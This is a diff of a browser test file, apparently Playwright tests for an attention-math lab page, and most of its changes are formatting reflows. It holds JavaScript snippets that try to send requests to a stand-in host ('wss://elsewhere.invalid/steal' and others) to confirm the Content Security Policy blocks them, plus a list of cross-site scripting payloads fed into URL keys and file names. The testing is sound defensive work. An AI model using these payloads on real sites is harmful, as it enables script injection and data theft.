@@ -17,7 +17,10 @@ WAYS_OUT = {
         f"(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{ELSEWHERE}?xhr'); try {{ x.send() }} catch {{}} }})()",
     ),
     "beacon": ("connect-src", f"navigator.sendBeacon('{ELSEWHERE}?beacon', 'x')"),
-    "WebSocket": ("connect-src", "(() => { try { new WebSocket('wss://elsewhere.invalid/steal') } catch {} })()"),
+    "WebSocket": (
+        "connect-src",
+        "(() => { try { new WebSocket('wss://elsewhere.invalid/steal') } catch {} })()",
+    ),
     "EventSource": ("connect-src", f"new EventSource('{ELSEWHERE}?events')"),
     "image": ("img-src", f"(() => {{ new Image().src = '{ELSEWHERE}?image' }})()"),
     "style sheet": (
@@ -56,7 +59,7 @@ WAYS_OUT = {
     ),
     "worker": (
         "worker-src",
-"(() => { try { new Worker(URL.createObjectURL(new Blob(['0'], {type: 'text/javascript'}))) } catch {} })()",
+        "(() => { try { new Worker(URL.createObjectURL(new Blob(['0'], {type: 'text/javascript'}))) } catch {} })()",
     ),
     "inline script": (
         "script-src-elem",
@@ -74,7 +77,7 @@ HOSTILE = [
     "<script>window.ran = 1</script>",
     "<img src=x onerror='window.ran = 1'>",
     "<svg onload=window.ran=1>",
-    "\"><img src=x onerror=window.ran=1>",
+    '"><img src=x onerror=window.ran=1>',
     "'><img src=x onerror=window.ran=1>",
     "</textarea><script>window.ran=1</script>",
     "</title><script>window.ran=1</script>",
@@ -104,7 +107,20 @@ HOSTILE = [
 ]
 assert len(HOSTILE) == 30
 FIELDS = [
-    *("q", "k", "v", "text", "T", "scale-number", "causal-offset", "window", "softcap", "keep", "bias", "lengths"),
+    *(
+        "q",
+        "k",
+        "v",
+        "text",
+        "T",
+        "scale-number",
+        "causal-offset",
+        "window",
+        "softcap",
+        "keep",
+        "bias",
+        "lengths",
+    ),
     *("heads", "labels", "batch", "head", "observed", "d", "seed", "atol", "rtol"),
 ]
 
@@ -165,7 +181,20 @@ def test_hostile_text_in_every_fragment_key_stays_text(lab) -> None:
     from urllib.parse import quote
 
     keys = [
-        *("lab", "example", "q", "text", "d", "scale", "T", "causal", "positions", "softcap", "window", "empty"),
+        *(
+            "lab",
+            "example",
+            "q",
+            "text",
+            "d",
+            "scale",
+            "T",
+            "causal",
+            "positions",
+            "softcap",
+            "window",
+            "empty",
+        ),
         *("precision", "keep", "bias", "lengths", "heads", "framework", "labels", "row", "step", "decimals"),
         *("observed", "stage", "compare", "predict", "embed", "hide", "z", "unknown", "<b>key</b>"),
     ]
@@ -182,7 +211,9 @@ def test_hostile_file_and_array_names_stay_text(lab) -> None:
     lab.open("lab=check")
     for text in HOSTILE:
         content = json.dumps({text: [[1, 2], [3, 4]], "q": [[1, 0], [0, 1]]}).encode()
-        page.set_input_files("#files", [{"name": f"{text[:80]}.json", "mimeType": "application/json", "buffer": content}])
+        page.set_input_files(
+            "#files", [{"name": f"{text[:80]}.json", "mimeType": "application/json", "buffer": content}]
+        )
         page.wait_for_function(
             "!document.getElementById('files-found').hidden || document.querySelector('[data-error-for=files]').textContent"
         )
